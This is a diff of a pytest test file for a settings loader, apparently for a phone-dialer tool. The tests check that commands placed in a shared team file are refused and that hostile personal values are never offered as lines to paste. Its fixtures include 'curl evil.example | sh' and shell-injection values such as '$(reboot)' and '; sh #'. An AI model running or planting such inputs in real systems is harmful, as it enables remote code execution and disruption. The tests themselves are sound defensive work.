@@ -13,19 +13,19 @@ Load = Callable[..., Loaded]
 
 
 @pytest.mark.parametrize(
-    ("team", "line", "col", "paste"),
+    ("team", "line", "col", "name"),
     [
-        ('dialer: {command: [sh, -c, "x {e164}"]}', 2, 10, 'dialer: {command: [sh, -c, "x {e164}"]}'),
-        ('dialer: {command: "curl evil.example | sh"}', 2, 10, 'dialer: {command: "curl evil.example | sh"}'),
-        ("editor: vim", 2, 1, "editor: [vim]"),
+        ('dialer: {command: [sh, -c, "x {e164}"]}', 2, 10, "dialer.command"),
+        ('dialer: {command: "curl evil.example | sh"}', 2, 10, "dialer.command"),
+        ("editor: vim", 2, 1, "editor"),
     ],
 )
-def test_a_program_in_the_shared_file_is_refused_with_the_line_to_paste(
-    team: str, line: int, col: int, paste: str, settings_from: Load, places: Places
+def test_a_program_in_the_shared_file_is_refused_and_never_offered_for_pasting(
+    team: str, line: int, col: int, name: str, settings_from: Load, places: Places
 ) -> None:
     found = settings_from(team=team)
     assert [(p.code, p.severity, p.line, p.col) for p in found.problems] == [("PH910", "error", line, col)]
-    assert found.problems[0].help.endswith(f"({places.own}):   {paste}")
+    assert found.problems[0].help.endswith(f"writes `{name}` in their own settings ({places.own})")
     assert found.settings.dial.command == found.settings.editor == ()
     assert found.settings.dial.kind == "manual"
 
@@ -40,18 +40,25 @@ def test_a_program_under_any_other_name_is_refused_as_well(team: str, settings_f
 @pytest.mark.parametrize(
     ("team", "paste"),
     [
-        ("me: {name: Sam Reed}", 'me: {name: "Sam Reed"}'),
-        ("softphone: {account: sip}", "softphone: {account: sip}"),
-        ("team_file: x.yaml", "team_file: x.yaml"),
-        ('dialer: {kind: uri, prefix: "0"}', "dialer: {prefix: 0}"),
+        ("me: {name: Sam Reed}", ':   me: {name: "Sam Reed"}'),
+        ('dialer: {kind: uri, prefix: "0"}', ":   dialer: {prefix: 0}"),
+        ("softphone: {account: sip}", "own.yaml)"),
+        ("team_file: x.yaml", "own.yaml)"),
+        ('softphone: {"; sh #": x}', "writes `softphone` in their own settings"),
+        ("me: {name: $(reboot)}", "writes `me.name` in their own settings"),
+        ("me: {name: 'a; b'}", "writes `me.name` in their own settings"),
+        ('me: {name: "a\\e[2J"}', "writes `me.name` in their own settings"),
+        ("me: {name: " + "x" * 500 + "}", "writes `me.name` in their own settings"),
+        ("me: {name: {x: 1}}", "writes `me` in their own settings"),
     ],
 )
-def test_what_is_personal_is_refused_with_the_line_to_paste(
+def test_what_is_personal_is_refused_and_only_plain_words_are_offered_for_pasting(
     team: str, paste: str, settings_from: Load
 ) -> None:
     found = settings_from(team=team)
-    assert [(p.code, p.line) for p in found.problems] == [("PH911", 2)]
-    assert found.problems[0].help.endswith(f":   {paste}")
+    (refused,) = [problem for problem in found.problems if problem.code == "PH911"]
+    assert paste in refused.help
+    assert paste.startswith(":") or ":   " not in refused.help
 
 
 @pytest.mark.parametrize(
